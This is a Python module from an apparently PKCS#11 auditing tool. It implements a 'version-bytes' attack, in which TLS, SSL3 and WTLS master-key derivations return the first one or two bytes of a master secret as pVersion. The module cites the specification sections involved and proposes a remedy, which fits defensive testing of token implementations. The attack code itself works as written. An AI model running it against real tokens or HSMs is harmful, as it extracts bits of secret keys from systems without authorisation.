"""version-bytes: a master-key derivation from a master secret returns two of its bytes as the protocol's version."""

from collections.abc import Callable, Iterable, Mapping
from typing import Final

from keyfence.cryptoki import CryptokiError, Derived, Mechanism
from keyfence.cryptoki.constants import CKK, CKM
from keyfence.cryptoki.constants.vendor import CKM_NSS_TLS_EXTENDED_MASTER_KEY_DERIVE, CKM_NSS_TLS_MASTER_KEY_DERIVE_SHA256
from keyfence.cryptoki.params import (
    ExtendedMasterKeyDerive,
    MasterKeyDerive,
    Parameters,
    Tls12MasterKeyDerive,
    WtlsMasterKeyDerive,
)
from keyfence.cryptoki.session import secret_key
from keyfence.model import Chain, Key, Lengths, Public, Slice, Stream, Window

from .base import Attack, Bench, Inconclusive, Offer, Technique, telling
from .recovery import Fragment, Recovery, Source
from .targets import VICTIM
from .victim import Kind, Victim


def _plain(victim: Victim) -> Parameters:
    return MasterKeyDerive(victim.client_random, victim.server_random, wants_version=True)


def _tls12(victim: Victim) -> Parameters:
    return Tls12MasterKeyDerive(victim.client_random, victim.server_random, int(victim.prf_hash.ckm), wants_version=True)


def _extended(victim: Victim) -> Parameters:
    transcript = victim.prf_hash.digest(victim.client_random + victim.server_random)
    return ExtendedMasterKeyDerive(int(victim.prf_hash.ckm), transcript, wants_version=True)


def _wtls(victim: Victim) -> Parameters:
    return WtlsMasterKeyDerive(int(CKM.SHA_1), victim.client_random, victim.server_random, wants_version=True)


_TLS12: Final[Mapping[int, Callable[[Victim], Parameters]]] = {
    CKM.TLS12_MASTER_KEY_DERIVE: _tls12,
    CKM.TLS12_EXTENDED_MASTER_KEY_DERIVE: _extended,
    CKM_NSS_TLS_MASTER_KEY_DERIVE_SHA256: _plain,
    CKM_NSS_TLS_EXTENDED_MASTER_KEY_DERIVE: _extended,
}
MECHANISMS: Final[Mapping[Kind, Mapping[int, Callable[[Victim], Parameters]]]] = {
    Kind.SSL3: {CKM.SSL3_MASTER_KEY_DERIVE: _plain},
    Kind.TLS10: {CKM.TLS_MASTER_KEY_DERIVE: _plain},
    Kind.TLS12: _TLS12,
    Kind.SEPARATED: _TLS12,
    Kind.WTLS: {CKM.WTLS_MASTER_KEY_DERIVE: _wtls},
}
"""The forms that return pVersion; those for key agreements return none."""


class VersionBytes(Technique):
    id = "version-bytes"
    title = "Bytes of a master secret returned as a version"
    summary = (
        "CKM_*_MASTER_KEY_DERIVE returns the first two bytes of its base key as pVersion, since a pre-master secret begins "
        "with the protocol's version. Its base may be any generic secret of 48 bytes: a master secret's first two bytes come "
        "back in the clear. That opens nothing by itself; it is 16 bits of a secret that should give none."
    )
    section = "PKCS#11 3.2 §6.39.4 (CKM_SSL3_MASTER_KEY_DERIVE), §6.40.4, §6.41"
    references = ("RFC 5246 §7.4.7.1", "RFC 7627 §4")
    remedy = (
        "Roles for secrets: a master-key derivation takes a pre-master secret; or at least a base that begins with a version."
    )
    kinds = frozenset(MECHANISMS)
    one_suite = True

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [VersionAttack(victim, mechanism, make) for mechanism, make in MECHANISMS[victim.kind].items()]


class VersionAttack(Attack):
    """One derivation from the master secret; rehearsed on a secret whose bytes are known."""

    key = "master secret"

    def __init__(self, victim: Victim, mechanism: int, parameters: Callable[[Victim], Parameters]) -> None:
        self.victim = victim
        self.mechanism = mechanism
        self._parameters = parameters
        self._length = 1 if victim.kind is Kind.WTLS else 2  # WTLS has a version of one byte (WAP-261-WTLS §10.4)
        self._rehearsed = False

    @property
    def requires(self) -> tuple[int, ...]:
        return (self.mechanism,)

    def probe(self, bench: Bench) -> Offer:
        known = bench.rehearsal(self.victim)
        version = self._version(bench, known.handle)
        if known.value is not None and version != known.value[: self._length]:
            raise Inconclusive("pVersion is not the beginning of the base key")
        self._rehearsed = known.value is not None
        stream = Stream(VICTIM, "VALUE", b"")
        wanted = Slice(stream, 0, self._length, Key.of(CKK.GENERIC_SECRET), self.key)
        window = Window(self.name, stream, Public(), Lengths.exactly(0), Lengths.exactly(self._length))
        return Offer((wanted,), (window,))

    def _version(self, bench: Bench, base: int) -> bytes:
        version = self._derive(bench, base).version
        if version is None:
            raise Inconclusive("the module answered CKR_OK and wrote no pVersion")
        return bytes(version)[: self._length]

    def _derive(self, bench: Bench, base: int) -> Derived:
        """CKA_VALUE_LEN, which the mechanism fixes, is said where a module wants it."""
        mechanism = Mechanism(self.mechanism, self._parameters(self.victim))
        refusals: list[CryptokiError] = []
        for length in (None, self.victim.secret_length):
            template = secret_key(CKK.GENERIC_SECRET, length, derive=True, sensitive=True, extractable=False)
            try:
                return bench.session.derive(mechanism, base, template)
            except CryptokiError as refusal:
                refusals.append(refusal)
        raise telling(refusals)

    def execute(self, bench: Bench, chain: Chain) -> Recovery:
        version = self._version(bench, self.victim.handles.master)
        return Fragment(self.key, version, 0, self.victim.secret_length, Source.PUBLIC, self._rehearsed)

    def steps(self, chain: Chain) -> tuple[str, ...]:
        return (f"C_DeriveKey({self.name}, base = the master secret) -> pVersion = its first {self._length} bytes",)
